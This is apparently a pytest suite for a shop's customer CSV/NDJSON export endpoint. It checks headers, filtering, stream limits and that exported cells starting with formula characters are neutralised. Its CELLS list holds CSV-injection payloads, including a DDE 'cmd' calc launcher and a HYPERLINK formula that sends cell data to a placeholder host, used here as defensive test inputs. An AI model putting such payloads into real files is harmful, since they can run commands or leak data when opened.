"""GET /customers/export, over HTTP."""

import csv
import json
import re
import socket
from base64 import b64encode
from collections.abc import Sequence
from contextlib import closing
from io import StringIO
from pathlib import Path
from typing import Any

import httpx
import psycopg
import pytest
from sqlalchemy import Connection, insert

from fluent_cart.database import Database, connect
from fluent_cart.database.prepared import Record
from fluent_cart.formats import row_writer
from fluent_cart.models import Customer
from fluent_cart.services import customer_export, customers
from fluent_cart.settings import Settings
from fluent_cart.wordpress.paths import PREFIX
from tests.conftest import MakeClient, MakeCustomer, credentials, secret_of
from tests.services.test_customer_search import make_customers
from tests.support.errors import assert_error
from tests.support.server import Server, server, until

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
# Texts that a spreadsheet would run, and texts that look like their guard.
CELLS = (
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"click")', "=\"a\"", "=1\n+2", "==1", "=",
    "+1+1", "+1 (234) 567", "++", "+", "-1+1", "-2+3+cmd|' /C calc'!A0", "--", "-", "@SUM(1+1)*cmd|'x'!A0",
    "@a", "@", "＝1+1", "＋1", "－1", "＠SUM(A1)", "'=1+1", "''=1+1", "'+", "'-1", "'@x", "'＝1", "'t Hooft",
    "'", "''", "'quoted'", "a=1", "1-1", "a@b", '"=1+1"', ";=1", ",=1", "=1,2;3\t4", "=\u202e1", "=😀",
)  # fmt: skip


async def export(client: httpx.AsyncClient, **query: Any) -> httpx.Response:
    response = await client.get("/export", params=query)
    assert response.status_code == 200
    return response


class TestAnswer:
    async def test_export_is_a_file_with_a_fixed_name(
        self, make_customer: MakeCustomer, viewer: httpx.AsyncClient
    ) -> None:
        await make_customer(email="ann@example.com", first_name="Ann")
        for chosen, kind, ending in (
            ({}, "text/csv; charset=utf-8; header=present", "csv"),
            ({"format": "csv"}, "text/csv; charset=utf-8; header=present", "csv"),
            ({"format": "ndjson"}, "application/x-ndjson", "ndjson"),
        ):
            response = await export(viewer, **chosen)
            assert response.headers["content-type"] == kind
            name = rf'attachment; filename="customers-\d{{4}}-\d\d-\d\d\.{ending}"'
            assert re.fullmatch(name, response.headers["content-disposition"])
            assert response.headers["x-content-type-options"] == "nosniff"
            assert response.headers["cache-control"] == "no-store, private"

    async def test_export_accepts_the_query_of_the_list_without_a_page(
        self, make_customer: MakeCustomer, viewer: httpx.AsyncClient
    ) -> None:
        for number in range(12):
            await make_customer(email=f"c{number}@example.com", status="active" if number % 2 else "inactive")
        query = {"filters[status]": "active", "order_by": "email", "order_type": "asc", "page": "0"}
        response = await export(viewer, format="ndjson", per_page="1", **query)
        emails = [json.loads(line)["email"] for line in response.text.splitlines()]
        assert emails == sorted(f"c{number}@example.com" for number in range(1, 12, 2))

    async def test_export_of_an_empty_shop_is_a_header(self, viewer: httpx.AsyncClient) -> None:
        assert (await export(viewer)).text.count("\r\n") == 1
        assert (await export(viewer, format="ndjson")).text == ""

    async def test_export_exists_under_both_versions(
        self, client_of: MakeClient, make_customer: MakeCustomer
    ) -> None:
        await make_customer(email="ann@example.com")
        async with client_of(credentials("worker"), prefix="") as client:
            for path in ("/wp-json/fluent-cart/v1/customers/export", f"{PREFIX}/export/"):
                assert (await client.get(path)).text.startswith("id,email,")

    async def test_head_of_the_export_makes_no_file(
        self, viewer: httpx.AsyncClient, database: Database, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        made: list[int] = []

        def get_customers(connection: Connection, customer_ids: Sequence[int]) -> dict[int, Record]:
            made.extend(customer_ids)
            return customers.get_customers(connection, customer_ids)

        monkeypatch.setattr(customer_export, "get_customers", get_customers)
        monkeypatch.setattr(customer_export, "BATCH", 1)
        monkeypatch.setattr(row_writer, "PIECE", 1)
        no_orders = {"total_spent": 0, "order_count": 0, "first_order_at": None, "last_order_at": None}
        shop = [{**customer, **no_orders} for customer in make_customers()]
        await database.write(lambda connection: connection.execute(insert(Customer), shop) and None)
        response = await viewer.head("/export")
        assert (response.status_code, response.content) == (200, b"")
        assert "content-disposition" in response.headers
        assert len(made) < 50
        assert (await export(viewer)).text.count("\n") == 201

    async def test_export_is_503_while_too_many_run(
        self, viewer: httpx.AsyncClient, database: Database, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr("fluent_cart.database.base.MAX_STREAMS", 0)
        response = await viewer.get("/export")
        assert_error(response, 503, "service_unavailable")
        assert response.headers["retry-after"] == "10"


class TestFormulas:
    """Guarantee C5."""

    @pytest.fixture
    async def text(self, manager: httpx.AsyncClient) -> str:
        """Forty cells through the API and back as CSV."""
        assert len(CELLS) >= 40
        for number, cell in enumerate(CELLS):
            body = {
                "email": f"{'=+-'[number % 3]}a{number}@example.com",
                "first_name": cell,
                "last_name": f"x{cell}",
                "phone": cell if len(cell) <= 50 else None,
                "additional_info": {cell: cell},
            }
            assert (await manager.post("", json=body)).status_code == 200
            place = {"address_1": cell, "city": cell, "country": "US", "company_name": cell}
            assert (await manager.post(f"/{number + 1}/address", json=place)).status_code == 200
        return (await export(manager, order_type="asc")).text

    async def check(self, manager: httpx.AsyncClient, rows: list[dict[str, str]]) -> None:
        cells = [cell for row in rows for cell in row.values()]
        assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
        for number, (row, cell) in enumerate(zip(rows, CELLS, strict=True), start=1):
            record = (await manager.get(f"/{number}")).json()["data"]["customer"]
            assert record["first_name"] == cell
            for name in ("email", "first_name", "last_name", "phone"):
                guarded = re.match(rf"'+[{''.join(FORMULA_STARTS)}]", row[name])
                assert row[name].removeprefix("'" if guarded else "") == record[name], name
            assert json.loads(row["additional_info"]) == record["additional_info"] == {cell: cell}
            assert json.loads(row["addresses"]) == record["addresses"]

    async def test_formulas_are_read_back_by_python(self, manager: httpx.AsyncClient, text: str) -> None:
        await self.check(manager, list(csv.DictReader(StringIO(text, newline=""))))

    async def test_formulas_are_read_back_by_postgresql(
        self, manager: httpx.AsyncClient, text: str, postgres_template: str
    ) -> None:
        """A strict reader of RFC 4180 that is not Python's."""
        names = text.partition("\r\n")[0].split(",")
        with psycopg.connect(f"{postgres_template}/postgres") as connection:
            columns = ", ".join(f"{name} text" for name in names)
            connection.execute(f"CREATE TEMPORARY TABLE read (line serial, {columns})".encode())
            listed = ", ".join(names)
            command = f"COPY read ({listed}) FROM STDIN (FORMAT csv, HEADER, FORCE_NOT_NULL ({listed}))"
            with connection.cursor().copy(command.encode()) as copy:
                copy.write(text)
            found = connection.execute(f"SELECT {listed} FROM read ORDER BY line".encode())
            rows = [dict(zip(names, row, strict=True)) for row in found]
            connection.rollback()
        await self.check(manager, rows)


LARGE = 400


def fill(settings: Settings) -> None:
    """Store 24 MB of customers, more than any buffer on the way to a client takes."""
    with connect(settings.database_url) as connection:
        made = [
            {
                **customer,
                "id": number,
                "email_key": f"c{number}@example.com",
                "additional_info": {"text": "x" * 60_000},
            }
            for number, customer in zip(range(1, LARGE + 1), make_customers() * 2, strict=True)
        ]
        connection.execute(insert(Customer), made)


def begun(running: Server, login: str = "worker") -> socket.socket:
    """Request an export and read only its beginning."""
    client = socket.create_connection(("127.0.0.1", running.port))
    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    basic = b64encode(f"{login}:{secret_of(login)}".encode()).decode()
    client.sendall(
        f"GET {PREFIX}/export HTTP/1.1\r\nHost: x\r\nAuthorization: Basic {basic}\r\n\r\n".encode()
    )
    assert client.recv(1000).startswith(b"HTTP/1.1 200 OK\r\n")
    return client


@pytest.mark.server
class TestClients:
    def test_client_that_disconnects_frees_its_place(self, own_settings: Settings, tmp_path: Path) -> None:
        fill(own_settings)
        environment = {"FLUENT_CART_DATABASE_URL": own_settings.database_url}
        with server(tmp_path, environment=environment) as running:
            url, auth = f"{running.address}{PREFIX}", credentials("worker")
            with closing(begun(running)), closing(begun(running, "manager")):
                assert httpx.get(f"{url}/export", auth=auth).status_code == 503
                assert httpx.get(f"{url}/1", auth=auth).status_code == 200
            until(lambda: httpx.get(f"{url}/export?search=c1@", auth=auth).status_code == 200, "no room", 15)
            whole = httpx.get(f"{url}/export?format=ndjson", auth=auth, timeout=60)
        assert whole.text.count("\n") == LARGE
        log = (tmp_path / "server.log").read_text()
        assert "Traceback" not in log

    def test_connection_is_closed_if_the_database_fails_midway(
        self, postgres_settings: Settings, tmp_path: Path
    ) -> None:
        fill(postgres_settings)
        environment = {"FLUENT_CART_DATABASE_URL": postgres_settings.database_url}
        with server(tmp_path, environment=environment) as running:
            url = f"{running.address}{PREFIX}/export"
            with httpx.stream("GET", url, auth=credentials("worker"), timeout=60) as response:
                pieces = response.iter_raw()
                assert next(pieces).startswith(b"id,email,")
                with psycopg.connect(postgres_settings.database_url, autocommit=True) as connection:
                    ended = connection.execute(
                        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()"
                        " AND datname = current_database() AND state = 'idle in transaction'"
                    ).fetchall()
                assert ended
                with pytest.raises(httpx.RemoteProtocolError, match="incomplete chunked read"):
                    for _ in pieces:
                        pass
            assert httpx.get(url + "?search=c1@", auth=credentials("worker")).status_code == 200
